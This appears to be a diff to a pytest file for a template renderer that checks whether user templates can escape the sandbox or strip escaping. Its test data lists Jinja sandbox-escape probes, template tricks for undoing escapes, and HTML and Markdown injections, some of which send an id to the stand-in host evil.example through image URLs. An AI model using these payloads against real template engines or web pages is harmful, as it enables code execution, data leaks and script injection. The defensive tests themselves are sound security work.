@@ -4,13 +4,17 @@ from __future__ import annotations
 
 import io
 from pathlib import Path
+from typing import Any
 
 import docx
 import pytest
+from lxml.html import document_fromstring
+from markdown_it import MarkdownIt
 from render_sample import BRIEF
 
 from briefwright.errors import TemplateError
 from briefwright.render import Header, fill, prepare, render
+from briefwright.render.checking import check
 from briefwright.render.templates import Kind
 
 # `nothing` is there in every note. Each is a way to a public method of the values behind the view.
@@ -113,8 +117,8 @@ def test_method_of_a_value_is_refused_by_every_route(method: str, tmp_path: Path
     "code",
     [
         "{{ range.__init__ }}",
-        "{{ lipsum.__globals__ }}",
-        "{{ lipsum.func_name }}",
+        "{{ lipsum() }}",
+        "{{ joiner.__globals__ }}",
         "{{ dict.mro() }}",
         "{{ cycler.next }}",
         "{{ subject.format.__globals__ }}",
@@ -170,3 +174,95 @@ def test_what_is_joined_to_printed_text_is_escaped(code: str, tmp_path: Path) ->
     made = fill(BRIEF, "md", template=path, header=header).decode()
     assert "![x](" not in made
     assert "evil" in made
+
+
+LINK = "![x](http://evil.example/x.png) <img src=http://evil.example/y.png>"
+# Each tries to print the article's text with its escapes taken away.
+UNESCAPING = (
+    "{% filter replace('\\\\', '') %}{{ subject }}{% endfilter %}",
+    "{% filter upper %}{{ subject }}{% endfilter %}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | replace('\\\\', '') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m().replace('\\\\', '') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m().split('\\\\') | join }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m()[1:] }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}"
+    "{% for c in m() if c != '\\\\' %}{{ c }}{% endfor %}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | list | reject('eq', '\\\\') | join }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | trim('\\\\!') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ m() | string | e | replace('\\\\', '') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ '{}'.format(m()).replace('\\\\', '') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ '%s' | format(m()) | replace('\\\\', '') }}",
+    "{% macro m() %}{{ subject }}{% endmacro %}{{ [m()] | map('replace', '\\\\', '') | join }}",
+    "{% macro m() %}{{ caller() | replace('\\\\', '') }}{% endmacro %}"
+    "{% call m() %}{{ subject }}{% endcall %}",
+    "{% set b %}{{ subject }}{% endset %}{{ b | replace('\\\\', '') }}",
+    "{% set b | replace('\\\\', '') %}{{ subject }}{% endset %}{{ b }}",
+    "{% block b %}{{ subject }}{% endblock %}{{ self.b() | replace('\\\\', '') }}",
+    "{% for x in [1] recursive %}{{ subject if x == 2 else loop([2]) | replace('\\\\', '') }}"
+    "{% endfor %}",
+    "{{ subject | wordwrap(40) }}",
+    "{{ subject | indent(0, true) | center(400) | truncate(300) | title }}",
+    "{{ namespace(x=subject).x }}{{ cycler(subject).next() }}",
+    "{{ dict(a=subject) | dictsort | first | last }}",
+    "{{ [subject, ''] | sum(start='') if false else [subject] | first }}",
+    "{{ subject | urlencode }}{{ subject | pprint }}{{ {'a': subject} }}{{ [subject] }}",
+    "\\{{ subject }}",
+    "{% if true %}\\{% endif %}{{ subject }}",
+)
+
+
+@pytest.mark.parametrize("code", UNESCAPING)
+@pytest.mark.parametrize("kind", ["md", "html"])
+@pytest.mark.parametrize("subject", [LINK, "<img src=http://evil.example/y.png>"])
+def test_no_way_of_a_template_undoes_the_escaping(
+    code: str, kind: Kind, subject: str, tmp_path: Path
+) -> None:
+    path = template(tmp_path, kind, code)
+    try:
+        made = fill(BRIEF, kind, template=path, header=Header(subject=subject)).decode()
+    except TemplateError:
+        return
+    read = MarkdownIt("commonmark").render(made) if kind == "md" else made
+    root: Any = document_fromstring(read)
+    assert not root.xpath("//img | //a")
+    assert "evil" in read or "EVIL" in read.upper()
+
+
+@pytest.mark.parametrize("code", UNESCAPING[:2])
+def test_filter_block_is_refused_and_check_says_what_to_write(code: str, tmp_path: Path) -> None:
+    path = template(tmp_path, "md", code)
+    (one,) = check(path, "md")
+    assert "use the filter on the value" in one.text
+    assert one.place == "line 1"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "![logo](http://evil.example/{{ id }}.png)",
+        "![logo][1]\n\n[1]: http://evil.example/x.png",
+        "<img src='http://evil.example/{{ id }}'>",
+        "<p style='background:url(http://evil.example)'>x</p>",
+        "<script>alert(1)</script>",
+        "x <b onclick=alert(1)>y</b>",
+    ],
+)
+def test_markdown_template_loads_and_runs_nothing(code: str, tmp_path: Path) -> None:
+    with pytest.raises(TemplateError, match="a note loads and runs nothing"):
+        fill(BRIEF, "md", template=template(tmp_path, "md", code))
+
+
+def test_markdown_template_may_hold_a_link_a_break_and_a_logo_of_its_own(tmp_path: Path) -> None:
+    code = (
+        "{{ subject }}<br>[Our desk](https://desk.example) <!-- a comment with src= -->\n"
+        "![](data:image/png;base64,AAAA) <u>x</u>"
+    )
+    assert b"Our desk" in fill(BRIEF, "md", template=template(tmp_path, "md", code))
+
+
+def test_lines_that_a_filter_makes_begin_no_heading_and_no_list(tmp_path: Path) -> None:
+    code = "{{ subject | replace('/', '\n\n') }}"
+    header = Header(subject="a/# heading/- item/1. first/> quoted/---")
+    made = fill(BRIEF, "md", template=template(tmp_path, "md", code), header=header).decode()
+    kinds = {token.type for token in MarkdownIt("commonmark").parse(made)}
+    assert kinds == {"paragraph_open", "inline", "paragraph_close"}
